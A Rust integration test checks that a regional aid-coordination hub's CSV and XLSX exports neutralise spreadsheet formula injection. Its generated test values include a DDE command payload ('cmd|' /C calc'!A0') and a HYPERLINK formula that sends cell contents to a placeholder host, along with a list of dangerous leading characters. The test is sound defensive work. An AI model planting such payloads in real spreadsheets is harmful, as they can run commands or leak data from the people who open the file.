//! Exports that cannot run code (OWASP ASVS 5.0 V1.2.10): 10,000 generated cell values, each
//! beginning with one of `=`, `+`, `-`, `@`, tab, CR or LF (some behind apostrophes), stored through
//! the import, leave no live formula in the contributions CSV, the console's analysis CSVs or the
//! LP2KD workbook; the downloaded CSV imports back unchanged, and the stored values are exactly those
//! generated.

use crate::helpers::TestApp;
use calamine::{Data, Reader, Xlsx};
use sea_orm::{ConnectionTrait, Statement};
use serde_json::Value;
use sinergi::cell_escape::CsvWriter;
use std::collections::HashMap;

const ADMIN: &str = "admin@sinergi.demo";
const COORDINATOR: &str = "koordinator@pekalongan.demo";
/// What spreadsheets run, or strip before running.
const DANGEROUS: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\n'];
const ROWS: usize = 5_000;

/// The test's own reading of "a spreadsheet runs this cell" (independent of the hub's code): it
/// begins with a dangerous character and is not a plain decimal number.
fn runs(cell: &str) -> bool {
    let plain_number = {
        let digits = cell.strip_prefix(['-', '+']).unwrap_or(cell);
        let (whole, fraction) = digits.split_once('.').unwrap_or((digits, "0"));
        !whole.is_empty()
            && !fraction.is_empty()
            && whole
                .chars()
                .chain(fraction.chars())
                .all(|c| c.is_ascii_digit())
    };
    cell.starts_with(DANGEROUS) && !plain_number
}

/// A small deterministic generator (xorshift), so a failure names a value that comes back.
struct Gen(u64);

impl Gen {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
    fn pick<'a>(&mut self, from: &[&'a str]) -> &'a str {
        from[(self.next() % from.len() as u64) as usize]
    }
}

/// Value `i`: some apostrophes (now and then), a dangerous character (each in turn), and a tail of
/// formula fragments, quotes, separators and Indonesian text; never blank once trimmed.
fn value(g: &mut Gen, i: usize) -> String {
    let apostrophes = ["", "", "", "'", "''"];
    let parts = [
        "HYPERLINK(\"http://contoh.invalid/?d=\"&A1,\"Klik\")",
        "1+1",
        "cmd|' /C calc'!A0",
        "SUM(A1:A9)",
        "2+3",
        "Bantuan RTLH",
        "Desa Botosari",
        "\"kutip\"",
        ";",
        ",",
        "'",
        "=",
        "@",
        "\t",
        " ",
        "Rp 1.250.000",
        "ñ é ü",
        "-",
        "+",
    ];
    let mut v = format!("{}{}", g.pick(&apostrophes), DANGEROUS[i % DANGEROUS.len()]);
    for _ in 0..(1 + g.next() % 5) {
        v.push_str(g.pick(&parts));
    }
    v.push_str(&format!(" {i}"));
    v
}

async fn get(app: &TestApp, token: &str, path: &str) -> reqwest::Response {
    let res = app
        .client
        .get(app.url(path))
        .bearer_auth(token)
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 200, "{path}");
    res
}

async fn upload(app: &TestApp, token: &str, path: &str, body: Vec<u8>) -> Value {
    let res = app
        .client
        .post(app.url(path))
        .bearer_auth(token)
        .header("content-type", "text/csv")
        .body(body)
        .send()
        .await
        .unwrap();
    let status = res.status();
    let report: Value = res.json().await.unwrap();
    assert_eq!(status, 200, "{path}: {report:#}");
    report
}

/// Every cell of a CSV that a spreadsheet would run, with its position.
fn live_cells(bytes: &[u8]) -> Vec<String> {
    let mut r = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(bytes);
    let mut live = Vec::new();
    for (row, rec) in r.records().enumerate() {
        for (col, cell) in rec.expect("a readable CSV").iter().enumerate() {
            if runs(cell) {
                live.push(format!("row {row}, column {col}: {cell:?}"));
            }
        }
    }
    live
}

async fn stored(app: &TestApp, sql: &str) -> HashMap<String, (String, Option<String>)> {
    app.db
        .query_all_raw(Statement::from_string(app.db.get_database_backend(), sql))
        .await
        .unwrap()
        .iter()
        .map(|r| {
            (
                r.try_get::<String>("", "k").unwrap(),
                (
                    r.try_get::<String>("", "a").unwrap(),
                    r.try_get::<Option<String>>("", "b").unwrap(),
                ),
            )
        })
        .collect()
}

#[tokio::test]
async fn dangerous_cells_never_run_in_any_download_and_import_back_unchanged() {
    let app = crate::helpers::spawn_app().await;
    app.load_demo().await;
    let admin = app.token_for(ADMIN).await;
    let coordinator = app.token_for(COORDINATOR).await;
    let mut g = Gen(0x5EED_2025_0000_0001);
    let values: Vec<String> = (0..2 * ROWS).map(|i| value(&mut g, i)).collect();
    assert_eq!(values.len(), 10_000);
    for d in DANGEROUS {
        assert!(
            values
                .iter()
                .any(|v| v.trim_start_matches('\'').starts_with(d))
        );
    }

    // Organizations with dangerous names (they reach the workbook's "Per Organisasi" sheet). The
    // files are written the way the hub's own exports are, so the import reads back what was meant.
    let leads = [
        "=",
        "+",
        "-",
        "@",
        "'=",
        "=HYPERLINK(\"http://contoh.invalid\")",
        "-2+3+cmd|' /C calc'!A0",
    ];
    let names: Vec<String> = (0..leads.len() * 2)
        .map(|i| format!("{}Yayasan Uji {i}", leads[i % leads.len()]))
        .collect();
    let mut orgs = CsvWriter::default();
    orgs.row(["nama", "heliks", "jenis", "kode_wilayah"])
        .unwrap();
    for n in &names {
        orgs.row([n.as_str(), "BUSINESS", "COMPANY", "33.26"])
            .unwrap();
    }
    upload(
        &app,
        &admin,
        "/imports/organizations",
        orgs.finish().unwrap(),
    )
    .await;

    // 5,000 contributions: a dangerous title and description each, spread over those organizations.
    let header = [
        "kunci",
        "kontributor",
        "sumber_dana",
        "jenis",
        "kode_wilayah",
        "program",
        "tahun_anggaran",
        "judul",
        "keterangan",
        "rencana",
        "komitmen",
        "status",
    ];
    let mut file = CsvWriter::default();
    file.row(header).unwrap();
    for i in 0..ROWS {
        let key = format!("uji-rumus-{i}");
        let org = &names[i % names.len()];
        let amount = (1_000_000 + i).to_string();
        file.row([
            key.as_str(),
            org.as_str(),
            "CSR",
            "CASH",
            "33.26.02.2008",
            "RTLH",
            "2025",
            values[2 * i].as_str(),
            values[2 * i + 1].as_str(),
            amount.as_str(),
            amount.as_str(),
            "COMMITTED",
        ])
        .unwrap();
    }
    let report = upload(
        &app,
        &admin,
        "/imports/contributions",
        file.finish().unwrap(),
    )
    .await;
    assert_eq!(report["inserted"], ROWS, "{report:#}");

    // Stored exactly as generated (text is trimmed when stored, as everywhere in the hub).
    let rows = stored(
        &app,
        "SELECT external_key AS k, title AS a, description AS b FROM contributions WHERE external_key LIKE 'uji-rumus-%'",
    )
    .await;
    assert_eq!(rows.len(), ROWS);
    for i in 0..ROWS {
        let (title, description) = &rows[&format!("uji-rumus-{i}")];
        assert_eq!(title, values[2 * i].trim(), "title {i}");
        assert_eq!(
            description.as_deref(),
            Some(values[2 * i + 1].trim()),
            "description {i}"
        );
    }

    // The contributions CSV: nothing runs, and it imports back with every row unchanged.
    let csv = get(&app, &admin, "/exports/contributions.csv")
        .await
        .bytes()
        .await
        .unwrap();
    let live = live_cells(&csv);
    assert!(
        live.is_empty(),
        "{} live cells, first: {:?}",
        live.len(),
        &live[..live.len().min(3)]
    );
    let total = crate::helpers::count_rows(&app.db, "contributions").await;
    let again = upload(
        &app,
        &admin,
        "/imports/contributions?dryRun=true",
        csv.to_vec(),
    )
    .await;
    assert_eq!(again["unchanged"], total, "{again:#}");
    assert_eq!(again["inserted"], 0);
    assert_eq!(again["updated"], 0);
    // Number columns stay numbers: the amounts are plain digits, never behind an apostrophe.
    let mut reader = csv::Reader::from_reader(&csv[..]);
    let head = reader.headers().unwrap().clone();
    let amounts: Vec<usize> = ["rencana", "komitmen"]
        .iter()
        .map(|h| head.iter().position(|c| c == *h).expect("an amount column"))
        .collect();
    for rec in reader.records() {
        let rec = rec.unwrap();
        for &a in &amounts {
            assert!(rec[a].parse::<i64>().is_ok(), "amount {:?}", &rec[a]);
        }
    }

    // The coordinator's own downloads of the same rows.
    let csv = get(&app, &coordinator, "/exports/contributions.csv")
        .await
        .bytes()
        .await
        .unwrap();
    assert!(live_cells(&csv).is_empty());

    // The console's overlaps download: the organizations working in one village, named in a cell.
    let res = app
        .client
        .get(app.url("/tumpang-tindih.csv?wilayah=33.26&tahun=2025"))
        .header("cookie", format!("sinergi_sesi={coordinator}"))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 200);
    let overlaps = res.bytes().await.unwrap();
    let text: String = csv::Reader::from_reader(&overlaps[..])
        .records()
        .map(|r| r.unwrap().iter().collect::<Vec<_>>().join("|"))
        .collect();
    assert!(names.iter().all(|n| text.contains(n.as_str())), "{text}");
    let live = live_cells(&overlaps);
    assert!(live.is_empty(), "{live:?}");

    // The LP2KD workbook: no formula anywhere, the dangerous names as plain text cells.
    let xlsx = get(
        &app,
        &coordinator,
        "/exports/lp2kd.xlsx?region=33.26&year=2025",
    )
    .await
    .bytes()
    .await
    .unwrap();
    let mut wb: Xlsx<_> = Xlsx::new(std::io::Cursor::new(xlsx.to_vec())).expect("an XLSX");
    let mut texts = Vec::new();
    for sheet in wb.sheet_names() {
        let formulas = wb.worksheet_formula(&sheet).expect("the sheet's formulas");
        assert!(
            formulas.used_cells().all(|(_, _, f)| f.is_empty()),
            "sheet {sheet} has a formula"
        );
        let range = wb.worksheet_range(&sheet).expect("the sheet");
        texts.extend(range.used_cells().filter_map(|(_, _, d)| match d {
            Data::String(s) => Some(s.clone()),
            _ => None,
        }));
    }
    for n in &names {
        assert!(texts.contains(n), "{n:?} is a text cell of the workbook");
    }
}
